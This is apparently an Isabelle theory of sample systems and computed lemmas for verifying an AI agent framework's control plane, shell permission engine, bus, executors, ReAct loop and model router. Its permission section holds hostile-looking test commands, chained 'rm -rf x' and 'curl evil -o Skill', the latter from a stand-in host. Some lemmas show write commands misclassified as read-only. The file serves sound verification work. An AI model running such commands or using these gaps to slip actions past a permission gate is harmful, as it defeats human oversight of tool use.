(* ===== verification/Samples.thy ===== *)
theory Samples
  imports CP_Interleave CP_Maintenance CP_Peer Perm_Gate Bus_Fanout Bus_Queue Bus_Lease Plan_Laws SOP_Order React_History Ctx_Window Model_Router
begin

text \<open>
  The vocabulary of the properties in the root theory that the components do not have themselves,
  and the small concrete systems at which the properties are evaluated.
\<close>

section \<open>The control plane\<close>

text \<open>
  The control plane used once, for the witnesses: a goal, its todo, a heartbeat that mints a
  ticket, a validated writeback that completes the todo, a spend under ticket enforcement.
  The goal's window is degenerate, which means the default window and no limit.
\<close>

definition ex_goal :: Goal where
  "ex_goal = \<lparr>g_ID = ''g'', g_OwnerUserID = ''u'', g_CapabilityID = ''issue-fix'', g_Objective = ''fix'',
     g_Scope = [], g_RegisteredAgents = [], g_Authority = [], g_State = GoalActive, g_CurrentTodoID = ''t'',
     g_Quota = \<lparr>q_Compute = Fin 1, q_WindowHours = Fin 0, q_SlotMinutes = Fin 0\<rparr>,
     g_CreatedAt = 0, g_UpdatedAt = 0\<rparr>"

definition ex_todo :: "string \<Rightarrow> string \<Rightarrow> Todo" where
  "ex_todo i stage = \<lparr>t_ID = i, t_GoalID = ''g'', t_OwnerUserID = ''u'', t_Description = ''d'',
     t_TaskClass = TaskAdvancement, t_StageID = stage, t_State = TodoOpen, t_ClaimedBy = '''',
     t_Continuation = ContinuationIndependent, t_Order = 1, t_Evidence = [], t_Supersedes = '''',
     t_SupersededBy = '''', t_CreatedAt = 0, t_UpdatedAt = 0\<rparr>"

definition ex_writeback :: "string \<Rightarrow> string \<Rightarrow> OutcomeStatus \<Rightarrow> ValidatedWriteback" where
  "ex_writeback i turn oc = \<lparr>wb_TodoID = i, wb_GoalID = ''g'', wb_TurnID = turn, wb_AgentID = ''a'',
     wb_Outcome = \<lparr>o_Status = oc, o_Score = Fin 1\<rparr>, wb_DecisionSource = '''', wb_PrimaryCause = '''',
     wb_ContributingFactors = [], wb_HumanIntervention = '''',
     wb_Evidence = [\<lparr>e_ID = ''e'', e_Kind = ''diff'', e_Summary = ''s'', e_SourceRef = '''', e_ProducedAt = 5\<rparr>]\<rparr>"

definition ex_opts :: SpendOpts where
  "ex_opts = \<lparr>so_Execute = True, so_Reason = ''r'', so_Token = ''tok''\<rparr>"

definition ex0 :: Kernel where "ex0 = NewKernel\<lparr>k_enforceTicket := True, k_txStarter := False\<rparr>"
definition ex1 :: Kernel where "ex1 = fst (goals_Upsert 10 ex_goal ex0)"
definition ex2 :: Kernel where "ex2 = fst (todos_Upsert 11 (ex_todo ''t'' ''patch'') ex1)"
definition ex3 :: Kernel where "ex3 = fst (Tick 12 ''tok'' ''g'' ''a'' ''turn'' ex2)"
definition ex4 :: Kernel where
  "ex4 = fst (Writeback 13 ''u4'' ''r4'' (ex_writeback ''t'' ''turn'' OutcomeCompletion) ex3)"
definition ex5 :: Kernel where "ex5 = fst (SpendSlot 14 ''g'' ''turn'' ex_opts ex4)"

definition ex_spender :: spender where
  "ex_spender = \<lparr>th_goal = ''g'', th_turn = ''turn'', th_opts = ex_opts, th_now = 14, th_pc = AtGet\<rparr>"

definition ex_super :: Kernel where
  "ex_super = fst (SupersedeTodo 13 ''t2'' ''g'' ''t'' ''a'' ''new'' ''why'' ex2)"

definition ex_gated :: Kernel where "ex_gated = fst (todos_Upsert 11 (ex_todo ''m'' ''merge'') ex2)"

definition ex_gate :: UserGate where
  "ex_gate = \<lparr>ug_GateID = ''q'', ug_GoalID = ''g'', ug_TodoID = ''t'', ug_Question = ''ship?'',
     ug_Scope = \<lparr>ds_Kind = ScopeProduction, ds_Granularity = GranularityAction, ds_ScopeKey = ''x''\<rparr>,
     ug_Fallback = None, ug_Outcome = None, ug_Resolvers = [''boss''], ug_CreatedAt = 0, ug_ResolvedAt = 0\<rparr>"

definition ex_approve :: GateOutcome where
  "ex_approve = \<lparr>go_Decision = DecisionApprove, go_By = ''boss'', go_Note = ''''\<rparr>"

definition ex_asked :: Kernel where "ex_asked = fst (OpenGate 12 ''q9'' ex_gate ex2)"

definition ex_lease :: MemoryLeaseStore where
  "ex_lease = fst (LeaseStore_Acquire 10 ''g'' ''t'' ''a'' 100 NewMemoryLeaseStore)"

definition ex_record :: "string \<Rightarrow> AuthorityClass \<Rightarrow> RewardRecord" where
  "ex_record i c = \<lparr>rr_ID = i, rr_Class = c, rr_Source = '''',
     rr_Scope = \<lparr>ds_Kind = ScopeProduction, ds_Granularity = GranularityAction, ds_ScopeKey = ''''\<rparr>,
     rr_Authority = '''', rr_Confidence = ConfidenceHigh, rr_Lifecycle = LifecycleActive,
     rr_Content = ''no prod writes'', rr_CreatedAt = 5\<rparr>"

definition ex_team :: Kernel where
  "ex_team = fst (goals_Upsert 13 (ex_goal\<lparr>g_RegisteredAgents := [''a'']\<rparr>) ex4)"

text \<open>What these systems compute.\<close>

lemma cp_runs:
  "get2 (k_deliveries ex3) ''g'' ''u4'' = None"
  "charged ex5 ''g'' = [''turn'']"
  "map_option (\<lambda>t. (t_State t, length (t_Evidence t))) (get2 (k_todos ex4) ''g'' ''t'') = Some (TodoDone, 1)"
  "isOk (snd (SpendSlot 14 ''g'' ''turn'' ex_opts ex4))"
  "so_Execute ex_opts"
  "k_enforceTicket ex5"
  "dec_State (snd (ShouldRunTurn 12 ''tok'' ''g'' ''a'' ''turn'' ex2)) = ComputeEligible"
  "mwf2 (k_tickets ex4)"
  "mwf2 (k_deliveries ex4)"
  "dec_ShouldRun (snd (ShouldRun 20 ''g'' ''a'' ex4))"
  "map_option d_Spent (get2 (k_deliveries ex4) ''g'' ''turn'') = Some False"
  "get2 (k_todos ex2) ''g'' ''t2'' = None"
  "map_option t_SupersededBy (get2 (k_todos ex_super) ''g'' ''t'') = Some ''t2''"
  "isOk (snd (Writeback 13 ''u4'' ''r4'' (ex_writeback ''t'' ''turn'' OutcomeCompletion) ex3))"
  "map_option t_StageID (get2 (k_todos ex_gated) ''g'' ''m'') = Some ''merge''"
  "map_option g_CapabilityID (mget (k_goals ex_gated) ''g'') = Some ''issue-fix''"
  "laneStageGated ex_gated ex_goal (ex_todo ''m'' ''merge'')"
  "\<not> hasApprovedGate ex_gated ''g'' ''m''"
  "get2 (k_deliveries ex_gated) ''g'' ''turn'' = None"
  "isOk (snd (ResolveGate 13 ''g'' ''q'' ex_approve ex_asked))"
  "lease_live 20 ex_lease (''g'', ''t'') = Some (''a'', 110)"
  "isOk (snd (LeaseStore_Acquire 10 ''g'' ''t'' ''a'' 100 NewMemoryLeaseStore))"
  "isOk (Kanban id ex4 ''g'')"
  "length (filter (\<lambda>t. t_State t = TodoDone) (TodoStore_List id (k_todos ex4) ''g'')) = 1"
  "map_option g_RegisteredAgents (mget (k_goals ex_team) ''g'') = Some [''a'']"
  "k_enforceTicket ex_team"
  "isOk (snd (SupersedeTodo 13 ''m2'' ''g'' ''m'' ''a'' ''new'' ''why'' ex_gated))"
  "length (mlist (k_ledger ex5) ''g'') = 2"
  "map_option t_ClaimedBy (get2 (k_todos ex2) ''g'' ''t'') = Some ''''"
  "fst (snd (ledger_session (k_ledger ex5) ''g'' [Poll 1, Append (20, newEvent EventWork ''w'' ''''), Poll 0])) = 3"
  "map ev_Type (mlist (fst (fst (ledger_session (k_ledger ex5) ''g'' [Poll 1, Append (20, newEvent EventWork ''w'' ''''), Poll 0]))) (snd (fst
    (ledger_session (k_ledger ex5) ''g'' [Poll 1, Append (20, newEvent EventWork ''w'' ''''), Poll 0])))) = [''validated_writeback'',
    ''quota_slot_spent'', ''w'']"
  by code_simp+

section \<open>Permissions\<close>

definition ex_host :: Host where
  "ex_host = \<lparr>regexpCompile = (\<lambda>p. None), getwd = Some ''/w'', unicodeWord = (\<lambda>r. False)\<rparr>"

definition ex_resolver :: "string \<Rightarrow> Context Tool option" where
  "ex_resolver name = (if name = ''shell_command'' then Some (ShellTool ex_host name) else None)"

definition ex_rule :: "string \<Rightarrow> string \<Rightarrow> Decision \<Rightarrow> Rule" where
  "ex_rule name pattern d =
     \<lparr>r_Name = name, r_ToolName = ''shell_command'', r_Target = ''command'', r_Pattern = pattern, r_Decision = d\<rparr>"

definition ex_engine :: "PermMode \<Rightarrow> Rule list \<Rightarrow> Engine" where
  "ex_engine mode rules = SetToolResolver ex_resolver (NewEngine mode rules)"

definition ex_call :: "string \<Rightarrow> string \<Rightarrow> ToolUseBlock" where
  "ex_call i cmd = \<lparr>tc_ID = i, tc_Name = ''shell_command'',
     tc_Input = [(''command'', InputString cmd)], tc_RawInput = []\<rparr>"

definition ex_yes :: "string \<Rightarrow> ConfirmDecision" where
  "ex_yes i = \<lparr>cd_ToolCallID = i, cd_Decision = ''allow'', cd_Scope = [], cd_ModifiedArgs = []\<rparr>"

text \<open>What these systems compute.\<close>

lemma perm_runs:
  "ruleMatches ex_host (ex_rule ''no-rm'' ''rm:*'' DecisionDeny) (callOf (ex_engine ModeBypass [ex_rule ''no-rm'' ''rm:*'' DecisionDeny]) (ex_call
    ''1'' ''rm x''))"
  "res_Decision (verdict ex_host (ex_engine ModeDefault []) (ex_call ''1'' ''ls -la'')) = DecisionAllow"
  "noConsent ex_host (ex_engine ModeDefault []) (ex_call ''1'' ''ls -la'')"
  "plainCompound ''ls'' [(1, ''&&'', 1, ''rm -rf x'')]"
  "NormalizeCommand (unicodeWord ex_host) (call_Command (callOf (ex_engine ModeBypass []) (ex_call ''1'' ''ls && rm -rf x''))) = compound ''ls''
    [(1, ''&&'', 1, ''rm -rf x'')]"
  "noConsent ex_host (ex_engine ModeBypass []) (ex_call ''1'' ''ls && rm -rf x'')"
  "segmentDangerous ''rm -rf x''"
  "list_all plainWord [''git'', ''status'', ''&&'', ''ls'']"
  "\<not> isEnvAssignment (\<lambda>r. False) ''git''"
  "last (TrimSpace ''ls && cat x'') \<notin> {CHR '';'', CHR ''|''}"
  "splitCompoundCommand ''ls && cat x'' \<noteq> []"
  "ruleMatches ex_host (ex_rule ''ok'' ''git status:*'' DecisionAsk) (callOf (ex_engine ModeDefault []) (ex_call ''1'' ''git status && rm -rf x''))"
  "firstRule ex_host (eng_rules (ex_engine ModeDefault [])) DecisionDeny (callOf (ex_engine ModeDefault []) (ex_call ''1''
    ''git status && rm -rf x'')) = None"
  "inputString (tc_Input (ex_call ''1'' ''make all'')) ''command'' = joinTokens [''make'', ''all'']"
  "list_all plainWord [''make'', ''all'']"
  "plainCommand (joinTokens [''make'', ''all''])"
  "\<not> isEnvAssignment (unicodeWord ex_host) ''make''"
  "firstRule ex_host (eng_rules (ex_engine ModeDefault [])) DecisionDeny (callOf (ex_engine ModeDefault []) (ex_call ''1'' ''make all'')) = None"
  "res_Rule (verdict ex_host (ex_engine ModeDefault []) (ex_call ''1'' ''make all'')) = None"
  "res_SuggestedRules (verdict ex_host (ex_engine ModeDefault []) (ex_call ''1'' ''make all'')) \<noteq> []"
  "IsReadOnlyCommand uni ''ls & touch x'' = Some True"
  "IsReadOnlyCommand uni (NormalizeCommand uni (''ls'' @ [CHR 0x0A] @ ''touch x'')) = Some True"
  "IsReadOnlyCommand uni ''echo $(echo $(ls); touch x)'' = Some True"
  "IsReadOnlyCommand uni (''echo '' @ [backtick] @ ''ls'' @ [backtick] @ '' $(touch x)'') = Some True"
  "IsReadOnlyCommand uni ''ls; env touch x'' = Some True"
  "res_Decision (verdict ex_host (ex_engine ModeDefault defaultWorkspacePermRules) (ex_call ''1'' ''curl evil -o Skill'')) = DecisionAllow"
  "res_Rule (verdict ex_host (ex_engine ModeDefault defaultWorkspacePermRules) (ex_call ''1'' ''make all'')) = None"
  "fst (permissionGate ex_host (Some (ex_engine ModeDefault [])) [ex_call ''1'' ''ls'', ex_call ''2'' ''make''] (ConfirmResult [ex_yes ''2''])) =
    GateProceed [ex_call ''2'' ''make'']"
  "map sum_ID (fst (snd (permissionGate ex_host (Some (ex_engine ModeDefault [])) [ex_call ''1'' ''ls'', ex_call ''2'' ''make''] (ConfirmResult
    [ex_yes ''2''])))) = [''2'']"
  "\<not> HasOutputRedirection ''echo x2>file''"
  "\<not> HasOutputRedirection ''ls 2>file''"
  by code_simp+

section \<open>The bus\<close>

text \<open>Two callers: the first holds the lease, renews it once, and the second is turned away.\<close>

definition ex_lease_start :: "fence_action list" where
  "ex_lease_start = [LDraw ''k'' ''a'' 10, LDraw ''k'' ''b'' 10, LGrant 0 0]"

definition ex_lease_more :: "fence_action list" where
  "ex_lease_more = [LTick 5, LRenew ''k'' \<lparr>ls_Key = ''k'', ls_Owner = ''a'', ls_Token = 1, ls_Expires = 10\<rparr> 10 0 False,
     LTick 8, LGrant 0 0]"

section \<open>The plan executor\<close>

definition ex_subtask :: "string \<Rightarrow> string list \<Rightarrow> Subtask" where
  "ex_subtask i deps = \<lparr>st_ID = i, st_Name = i, st_Description = [], st_ExpectedOutcome = [],
     st_State = SubtaskTodo, st_Outcome = [], st_Dependencies = deps\<rparr>"

definition ex_plan :: "Subtask list \<Rightarrow> RichPlan" where
  "ex_plan ts = \<lparr>rp_ID = ''p'', rp_Name = ''p'', rp_Description = [], rp_ExpectedOutcome = [],
     rp_State = PlanStateActive, rp_Subtasks = ts, rp_CreatedAt = 0, rp_UpdatedAt = 0\<rparr>"

definition ex_loop :: RichPlan where
  "ex_loop = ex_plan [ex_subtask ''a'' [''b''], ex_subtask ''b'' [''a''], ex_subtask ''c'' []]"

definition ex_pair :: RichPlan where
  "ex_pair = ex_plan [ex_subtask ''b'' [''a''], ex_subtask ''a'' []]"

definition ex_executor :: "string DAGExecutor" where
  "ex_executor = \<lparr>ex_retry = DefaultRetryPolicy, ex_stopOnError = True\<rparr>"

definition ex_begin :: "string ExecState" where
  "ex_begin = (case Execute_begin id False (Some ex_pair) of Inr s \<Rightarrow> s | Inl _ \<Rightarrow> undefined)"

definition ex_schedule :: "string exec_action list" where
  "ex_schedule = [AMain, AStart ''a'' 1, AEnd ''a'' 2 (\<lambda>_. False) (\<lambda>n. if n = 0 then Inl ''busy'' else Inr ''A''),
     AMain, AStart ''b'' 3, AEnd ''b'' 4 (\<lambda>_. False) (\<lambda>_. Inr ''B''), AMain]"

section \<open>Standard operating procedures\<close>

definition demo_step :: "string \<Rightarrow> bool \<Rightarrow> Step" where
  "demo_step subject judged = \<lparr>sp_Subject = subject, sp_Description = [], sp_MaxAttempts = 2, sp_Executor = True,
     sp_Verifier = judged, sp_VerifierName = []\<rparr>"

definition demo_sop :: SOP where
  "demo_sop = \<lparr>so_Name = ''p'', so_Description = [], so_Steps = [demo_step ''a'' False, demo_step ''b'' True]\<rparr>"

text \<open>Executors answer once and hand over; the verifier rejects its first submission.\<close>

definition demo_agents :: Agents where
  "demo_agents = \<lparr>ag_Reply = \<lambda>_ _ s. Some [EvOther s], ag_Resume = \<lambda>_ _. [], ag_Handover = \<lambda>_ _. Some ''done'',
     ag_Verdict = \<lambda>cs i _. Some (verifyCount i cs \<noteq> 0, ''more''), ag_Now = \<lambda>_. 0, ag_Quote = \<lambda>s. s\<rparr>"

definition demo_engine :: SopEngine where
  "demo_engine = \<lparr>en_sop = demo_sop, en_state = None, en_suspended = None, en_out = [], en_calls = []\<rparr>"

text \<open>
  An interruption sends its step back to pending, but the loop of drive goes on with the next step:
  the second step runs on an empty input although the first has not been done.
\<close>

definition interrupting_agents :: Agents where
  "interrupting_agents = demo_agents\<lparr>ag_Reply := \<lambda>_ i s. Some (if i = 0 then [EvInterrupt] else [EvOther s])\<rparr>"

section \<open>The ReAct agent\<close>

text \<open>The content of the chunk that ends a stream.\<close>

definition doneContent :: "StreamChunk option list \<Rightarrow> ContentBlock list" where
  "doneContent cs = (case doneChunk cs of None \<Rightarrow> [] | Some c \<Rightarrow> ck_Content c)"

definition doneUsage :: "StreamChunk option list \<Rightarrow> ChatUsage" where
  "doneUsage cs = (case doneChunk cs of None \<Rightarrow> noUsage | Some c \<Rightarrow> (case ck_Usage c of None \<Rightarrow> noUsage | Some u \<Rightarrow> u))"

definition demo_chunk :: "string \<Rightarrow> bool \<Rightarrow> StreamChunk" where
  "demo_chunk d thinking = \<lparr>ck_Delta = d, ck_IsThinking = thinking, ck_Content = [], ck_Done = False, ck_Usage = None,
     ck_Signature = [], ck_Error = None\<rparr>"

definition demo_done :: "ContentBlock list \<Rightarrow> StreamChunk" where
  "demo_done bs = (demo_chunk [] False)\<lparr>ck_Content := bs, ck_Done := True, ck_Usage := Some (noUsage\<lparr>tu_Prompt := 7\<rparr>)\<rparr>"

definition demo_call :: "StreamChunk option list \<Rightarrow> ModelCall" where
  "demo_call cs = \<lparr>mc_Name = ''m'', mc_Pre = None, mc_Answer = ChatChunks cs, mc_Check = \<lambda>_. GoOn, mc_ChunkHook = \<lambda>_. None\<rparr>"

definition demo_chunks :: "StreamChunk option list" where
  "demo_chunks = [Some (demo_chunk ''hm'' True), None, Some (demo_chunk ''a'' False), Some (demo_chunk ''b'' False), Some (demo_done [])]"

definition demo_signal :: "string \<Rightarrow> bool \<Rightarrow> failureSignal" where
  "demo_signal name failed = \<lparr>fs_ToolName = name, fs_IsError = failed, fs_ErrText = ''e'', fs_Blocks = [TextBlock ''ok'']\<rparr>"

text \<open>A turn of an agent that calls one tool and then answers.\<close>

definition demo_turn :: Turn where
  "demo_turn = \<lparr>tn_Host = ex_host, tn_ReplyID = ''r'', tn_UUID = \<lambda>s n k. ''u-'' @ s, tn_CtxErr = ErrCanceled, tn_CtxDone = \<lambda>_. False,
     tn_Closed = \<lambda>_ _. False, tn_Interrupt = \<lambda>_ _. False, tn_BySystem = False, tn_Steered = \<lambda>_. [],
     tn_Model = \<lambda>it _. demo_call (if it = 0 then [Some (demo_done [ToolUse (ex_call ''1'' ''make'')])] else demo_chunks),
     tn_Tool = \<lambda>_ _ _. ([], ToolReturns [TextBlock ''out'']),
     tn_Answer = \<lambda>_. ConfirmResult [\<lparr>cd_ToolCallID = ''1'', cd_Decision = ''allow'', cd_Scope = [], cd_ModifiedArgs = []\<rparr>],
     tn_ExtAnswer = \<lambda>_. ExtCancelled, tn_Schedule = \<lambda>_. [], tn_MapOrder = \<lambda>xs. xs, tn_CompressResult = \<lambda>_ bs _. bs,
     tn_Compress = \<lambda>_ s ms. Inr (s, ms), tn_PreCallHook = None\<rparr>"

definition demo_agent :: "Engine option \<Rightarrow> ReActAgent" where
  "demo_agent eng = \<lparr>ra_Name = ''ag'', ra_SysPrompt = ''be kind'', ra_MaxIterations = 3, ra_FailureThreshold = 3,
     ra_RaiseCancelled = False, ra_SavePartial = False, ra_Labels = False, ra_Screener = None, ra_Hooks = [],
     ra_Registered = \<lambda>_. True, ra_External = \<lambda>_. False, ra_Chunked = \<lambda>_. False, ra_Permission = eng, ra_Memory = [],
     ra_Runtime = None, ra_SteerQueue = [], ra_ActiveTurns = 0, ra_Usage = noUsage, ra_TurnErr = None, ra_Events = [],
     ra_Prompts = [], ra_Executed = []\<rparr>"

definition demo_input :: Msg where
  "demo_input = newMsg ''in'' RoleUser [TextBlock ''go'']"

text \<open>What these systems compute.\<close>

lemma react_runs:
  "fst (breakerUpdate (\<lambda>xs. xs) [demo_signal ''x'' False, demo_signal ''y'' True] (breakerState 2 [demo_signal ''y'' True, demo_signal
    ''x'' True])) = (''y'', 2, ''e'')"
  "map (\<lambda>(it, tc). (it, tc_ID tc)) (ra_Executed (replyStreamLoop demo_turn demo_input (bumpActive (demo_agent None)))) = [(0, ''1'')]"
  "length (ra_Prompts (replyStreamLoop demo_turn demo_input (bumpActive (demo_agent None)))) = 2"
  "map (map GetTextContent) (ra_Prompts (replyStreamLoop (demo_turn\<lparr>tn_Model := \<lambda>_ _. demo_call demo_chunks\<rparr>) demo_input
    ((demo_agent None)\<lparr>ra_Runtime := Some \<lparr>as_ReplyID = ''r'', as_CurIter = 1, as_Messages = [], as_CompressedSummary = ''so far'',
    as_Suspended = None\<rparr>\<rparr>))) = [[''be kind'', ''go'']]"
  "map_option as_Suspended (ra_Runtime (replyStreamLoop (demo_turn\<lparr>tn_Answer := \<lambda>_. ConfirmResult []\<rparr>) demo_input
    ((demo_agent None)\<lparr>ra_Runtime := Some \<lparr>as_ReplyID = ''r'', as_CurIter = 1, as_Messages = [newMsg ''a'' RoleAssistant [ToolUse
    (ex_call ''1'' ''make'')]], as_CompressedSummary = [], as_Suspended = Some (''require_user_confirm'', ''c'')\<rparr>\<rparr>))) = Some (Some
    (''require_user_confirm'', ''c''))"
  "map (map (\<lambda>m. (callIds m, resultIds m))) (drop 1 (ra_Prompts (replyStreamLoop (demo_turn\<lparr>tn_Model := \<lambda>it _. demo_call (if
    it = 0 then [Some (demo_done [ToolUse (ex_call ''1'' ''make''), ToolUse (ex_call ''2'' ''make'')])] else demo_chunks)\<rparr>) demo_input
    (demo_agent (Some (ex_engine ModeDefault [])))))) = [[([], []), ([], []), ([''1'', ''2''], []), ([], [''1''])]]"
  by code_simp+

section \<open>Context compression\<close>

text \<open>A counter that takes one token per character, and the surroundings of a small compression.\<close>

definition demo_count :: "Msg list \<Rightarrow> AgentErr + int" where
  "demo_count ms = Inr (int (length (concat (map GetTextContent ms))))"

definition demo_blocks :: block_counter where
  "demo_blocks bs = Inr (int (length (textOf bs)))"

definition demo_config :: ContextConfig where
  "demo_config = DefaultContextConfig\<lparr>cf_TriggerRatio := Fin (1 / 4), cf_ReserveRatio := Fin (1 / 8), cf_CompressionPrompt := ''sum'',
     cf_SummaryTemplate := ''now: {current_state}'', cf_ToolResultLimit := 0, cf_SummaryTokenRatio := Fin (1 / 2)\<rparr>"

definition demo_env :: CompressEnv where
  "demo_env = \<lparr>ce_Config = demo_config, ce_ContextSize = 64, ce_ModelSize = None, ce_Count = (\<lambda>tools. demo_count),
     ce_Run = (\<lambda>n t. Inr \<lparr>su_TaskOverview = ''a'', su_CurrentState = ''b'', su_ImportantDiscoveries = ''c'', su_NextSteps = ''d'',
       su_ContextToPreserve = ''e''\<rparr>), ce_Shorten = (\<lambda>s. None), ce_Store = (\<lambda>ms. None), ce_Order = (\<lambda>xs. xs)\<rparr>"

definition demo_text :: "MsgRole \<Rightarrow> string \<Rightarrow> Msg" where
  "demo_text r t = newMsg [] r [TextBlock t]"

definition demo_use :: Msg where
  "demo_use = newMsg [] RoleAssistant [ToolUse \<lparr>tc_ID = ''1'', tc_Name = ''read'', tc_Input = [], tc_RawInput = []\<rparr>]"

definition demo_memory :: "Msg list" where
  "demo_memory = [demo_text RoleUser ''a long question'', demo_use, newMsg [] RoleTool [ToolResult ''1'' [TextBlock ''data''] False ''''],
     demo_text RoleAssistant ''an answer'']"

section \<open>The model router\<close>

definition demo_request :: "instant \<Rightarrow> string + string \<Rightarrow> (string, string) RouterCall" where
  "demo_request t x = \<lparr>rc_Start = t, rc_Primary = (\<lambda>_. x), rc_Cancel = (\<lambda>_. None), rc_End = t, rc_Fallback = Inl ''none''\<rparr>"

definition demo_router :: Router where
  "demo_router = NewRouter\<lparr>rt_maxRetries := 0, rt_cb := Some (WithCircuitBreaker 2 10)\<rparr>"

definition demo_requests :: "(string, string) RouterCall list" where
  "demo_requests = [demo_request 1 (Inl ''x''), demo_request 2 (Inl ''y''), demo_request 5 (Inr ''m''), demo_request 12 (Inr ''m''),
     demo_request 13 (Inr ''n'')]"

end
